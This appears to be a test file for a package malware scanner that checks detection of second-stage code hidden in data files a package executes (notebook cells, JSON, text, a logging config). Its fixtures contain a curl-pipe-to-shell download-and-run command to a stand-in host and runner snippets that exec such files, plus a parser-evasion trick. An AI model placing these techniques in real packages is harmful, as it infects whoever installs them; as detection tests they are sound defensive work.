"""Python kept in a data file the package's code runs (caplet._scan._data_code, blind19).

The attack (b19-ls-notebook-cells-exec): a package ships a notebook and its ``__init__``
loads the notebook's JSON and execs every code cell; the cells download and run a
program. The Python rules saw ``exec`` of a value read from a file, which the package's
own ``version.py`` read and run also is, and nothing read the notebook. The near misses:
a notebook the code only reads, a data file run whose code is harmless, a malicious
notebook no running code names, and a developer script outside the package naming it.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from caplet._findings import Finding, Severity
from caplet._scan._data_code import DataCode
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from tests._scan.prefilterkit import tree_both_ways
from tests._scan.scankit import package_danger, write_tree

_STAGE = "import os\nos.system('curl -fsSL http://203.0.113.7/s.sh | sh')\n"

_RUNS_CELLS = """\
import json
import os

_nb = os.path.join(os.path.dirname(__file__), "examples", "quickstart.ipynb")
with open(_nb, encoding="utf-8") as f:
    for cell in json.load(f)["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]), {"__name__": "__nb__"})
"""


def _notebook(source: str) -> str:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Quick start\n"]},
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": source.splitlines(True)},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _sdist(tmp_path: Path, files: dict[str, str]) -> Path:
    target = tmp_path / "pkg-1.0.tar.gz"
    with tarfile.open(target, "w:gz") as archive:
        for relative, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"pkg-1.0/{relative}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return target


@pytest.mark.parametrize(
    ("data_name", "data", "runner"),
    [
        ("examples/quickstart.ipynb", _notebook(_STAGE), _RUNS_CELLS),
        (
            "resources/init.json",
            json.dumps({"version": 2, "init": _STAGE}),
            "import json, pathlib\n"
            "_d = json.loads((pathlib.Path(__file__).parent / 'resources' / 'init.json')"
            ".read_text())\nexec(_d['init'])\n",
        ),
        (
            "data/boot.txt",
            _STAGE,
            "import pkgutil\nexec(pkgutil.get_data(__name__, 'data/boot.txt'))\n",
        ),
        (
            # scan27's leftover: dictConfig calls what a "()" key names with the other
            # keys as keywords; the configuration is the package's own JSON file
            "logging.json",
            json.dumps(
                {
                    "version": 1,
                    "handlers": {
                        "boot": {
                            "()": "os.system",
                            "command": "curl -fsSL http://203.0.113.7/s.sh | sh",
                        }
                    },
                    "root": {"handlers": ["boot"]},
                }
            ),
            "import json, logging.config, os\n"
            "with open(os.path.join(os.path.dirname(__file__), 'logging.json')) as f:\n"
            "    logging.config.dictConfig(json.load(f))\n",
        ),
    ],
    ids=["notebook-cells", "json-string", "text-file", "dictconfig-json"],
)
@pytest.mark.parametrize("form", ["tree", "sdist"])
def test_code_in_a_data_file_the_package_runs_is_a_second_stage(
    tmp_path: Path, data_name: str, data: str, runner: str, form: str
) -> None:
    files = {"setup.py": "", "colours/__init__.py": runner, f"colours/{data_name}": data}
    target = write_tree(tmp_path / "pkg-1.0", files) if form == "tree" else _sdist(tmp_path, files)
    assert ("CPL-THR-016", f"colours/{data_name}") in package_danger(target)


def test_the_prefilter_keeps_what_the_data_file_pass_finds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_tree(
        tmp_path,
        {
            "colours/__init__.py": _RUNS_CELLS,
            "colours/examples/quickstart.ipynb": _notebook(_STAGE),
        },
    )
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert ("CPL-THR-016", "colours/examples/quickstart.ipynb", 1) in whole
    assert filtered == whole


@pytest.mark.parametrize(
    "files",
    [
        # the notebook is read (its cell count shown), never run
        {
            "colours/__init__.py": "import json, os\n"
            "_nb = os.path.join(os.path.dirname(__file__), 'examples', 'quickstart.ipynb')\n"
            "CELLS = len(json.load(open(_nb))['cells'])\n",
            "colours/examples/quickstart.ipynb": _notebook(_STAGE),
        },
        # a data file run whose code is harmless (a version and a default table)
        {
            "colours/__init__.py": "exec(open(__file__[:-11] + 'defaults.txt').read())\n",
            "colours/defaults.txt": "import math\nPALETTE = {'red': (255, 0, 0)}\nPI = math.pi\n",
        },
        # a malicious notebook no code that runs code names
        {
            "colours/__init__.py": "exec(compile('X = 1', 'x', 'exec'))\n",
            "colours/examples/quickstart.ipynb": _notebook(_STAGE),
        },
        # a developer script outside the package runs the docs' notebooks
        {
            "tools/run_docs.py": _RUNS_CELLS,
            "colours/__init__.py": "",
            "colours/examples/quickstart.ipynb": _notebook(_STAGE),
        },
    ],
    ids=["read-not-run", "harmless-code", "not-named", "developer-script"],
)
def test_data_files_that_are_not_run_or_hold_nothing_harmful_are_clean(
    tmp_path: Path, files: dict[str, str]
) -> None:
    assert package_danger(write_tree(tmp_path / "pkg-1.0", files)) == set()


def test_only_files_that_may_hold_code_are_kept_from_an_archive() -> None:
    data = DataCode()
    data.note_member("pkg/table.json", json.dumps({"rows": [[1, 2], [3, 4]]}).encode())
    data.note_member("pkg/init.json", json.dumps({"init": _STAGE}).encode())
    data.note_code(
        "pkg/__init__.py", "exec(load('init.json'))\nload('table.json')\n", installer=False
    )
    scanned: list[str] = []

    def scan(text: str, relative: str) -> list[Finding]:
        scanned.append(relative)
        return []

    assert data.findings(scan, lambda path: None) == []
    assert scanned == ["pkg/init.json"]


def test_code_in_a_data_file_with_a_long_run_of_marks_is_too_complex(tmp_path: Path) -> None:
    # Attack (attack23's run of marks, in a second stage): a data file the package runs
    # whose code holds an identifier of 2,000 marks was "not Python" to the data-file
    # pass once parsing refused it; it is scanned, and judged too complex to check
    stage = "a" + "\u0301\u0316" * 1_000 + " = 1\n" + _STAGE
    files = {
        "setup.py": "",
        "colours/__init__.py": (
            "import pkgutil\nexec(pkgutil.get_data(__name__, 'data/boot.txt'))\n"
        ),
        "colours/data/boot.txt": stage,
    }
    report = scan_tree(write_tree(tmp_path / "pkg-1.0", files), mode=ScanMode.PACKAGE)
    [stage_run] = [f for f in report.findings if f.rule_id == "CPL-THR-016"]
    assert (stage_run.file, stage_run.severity) == ("colours/data/boot.txt", Severity.DANGER)
    assert "running colours/data/boot.txt (CPL-SCAN-002 inside)" in stage_run.message
